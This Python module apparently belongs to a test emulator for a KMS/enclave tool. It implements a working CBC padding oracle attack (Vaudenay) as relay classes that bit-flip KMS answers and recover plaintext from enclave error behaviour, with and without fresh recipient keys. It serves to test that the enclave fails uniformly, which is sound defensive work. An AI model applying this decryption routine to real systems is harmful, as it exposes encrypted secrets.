"""The padding oracle of a relayed answer (Vaudenay, EUROCRYPT 2002), on one key and on fresh ones.

The content of an answer is AES-CBC without a MAC. A relay that flips bits of it, and can tell "bad
padding" from whatever else the enclave says, reads the plaintext byte by byte: about 128 requests a
byte. A new recipient key for each request does not stop it, because KMS encrypts the same plaintext
again for each: the bits that a relay flips in the IV flip in the same plaintext.

Left alone, a relay of this kind lets one probe after the other through. `recover` drives it.
"""

from collections.abc import Callable, Sequence
from typing import Any

from kmstool.emulator.hostile_attack import Attack, Ground
from kmstool.emulator.hostile_relay import (
    BLOCK,
    BentRelay,
    Relayed,
    ask,
    fields_of,
    renamed,
    with_fields,
    xor,
)

Enclave = Callable[[], str]
"""Has the enclave do its work once; what it then says or does, as far as the parent can see it."""


class FreshKeysOracle(BentRelay):
    name = "padding-oracle-fresh-keys"
    sentence = (
        "flips bits of KMS' answer to request after request, and reads the plaintext from how the"
        " enclave fails"
    )
    sound = "fails in one way, whatever is wrong inside the answer"

    def __init__(self) -> None:
        self.requests = 0
        self._change = bytes(BLOCK)
        self._driven = False

    def answer(self, ground: Ground, call: Relayed) -> dict[str, Any]:
        answer = self.genuine(ground, call)
        change = self._change if self._driven else bytes([self.requests % 256]).rjust(BLOCK, b"\0")
        self.requests += 1
        fields = fields_of(answer)
        content = fields["ciphertext"]
        # The first block comes last, so that its end is read as padding, after a block of ours,
        # which does what the IV does. What else there is keeps the length, which is public.
        last = xor(fields["iv"], change) + content[:BLOCK]
        bent = (bytes(BLOCK) + content[: -2 * BLOCK] + last)[-len(content) - BLOCK :]
        fields["iv"], fields["ciphertext"] = bent[:BLOCK], bent[BLOCK:]
        return with_fields(answer, fields)

    def genuine(self, ground: Ground, call: Relayed) -> dict[str, Any]:
        """KMS' answer to this request, before it is bent."""
        return ask(ground, call.operation, call.parameters)

    def recover(
        self, enclave: Enclave, count: int, *, candidates: Sequence[int] = range(256)
    ) -> bytes:
        """Reads the last `count` of the first 16 bytes of the secret, as far as that succeeds.

        Args:
            enclave: has the enclave ask for the same secret again.
            candidates: what each byte may be, at least three; fewer save requests.

        Returns:
            fewer bytes than `count` where the enclave gives nothing away.
        """
        self._driven = True
        found = b""
        while len(found) < count:
            byte = self._byte_before(enclave, found, candidates)
            if byte is None:
                break
            found = bytes([byte]) + found
        return found

    def _byte_before(self, enclave: Enclave, found: bytes, candidates: Sequence[int]) -> int | None:
        """The byte before the known ones: the guess to which the enclave says something else."""
        said: dict[str, list[int]] = {}
        for count, guess in enumerate(candidates, 1):
            said.setdefault(self._try(enclave, guess, found), []).append(guess)
            if len(said) == 2 and count >= 3:
                usual, other = sorted(said, key=lambda words: -len(said[words]))
                odd = said[other][0]
                # Once more with another byte before: the padding could have been a longer one.
                if self._try(enclave, odd, found, before=0xFF) != usual:
                    return odd
                del said[other]
        return None

    def _try(self, enclave: Enclave, guess: int, found: bytes, before: int = 0) -> str:
        """What the enclave says when the padding is good if the guess is."""
        size = len(found) + 1
        change = xor(bytes([before, guess]) + found, b"\0" + bytes([size]) * size)
        self._change = change[-BLOCK:].rjust(BLOCK, b"\0")
        return enclave()


class OneKeyOracle(FreshKeysOracle):
    name = "padding-oracle-one-key"
    sentence = (
        "flips bits of one answer again and again, as long as the enclave keeps its recipient key,"
        " and reads the plaintext from how it fails"
    )
    sound = "fails in one way, and opens one answer with a recipient key"

    def __init__(self) -> None:
        super().__init__()
        self._first: dict[str, Any] | None = None

    def genuine(self, ground: Ground, call: Relayed) -> dict[str, Any]:
        self._first = self._first or ask(ground, call.operation, call.parameters)
        return renamed(self._first, call)


ORACLE_ATTACKS: tuple[type[Attack], ...] = (OneKeyOracle, FreshKeysOracle)
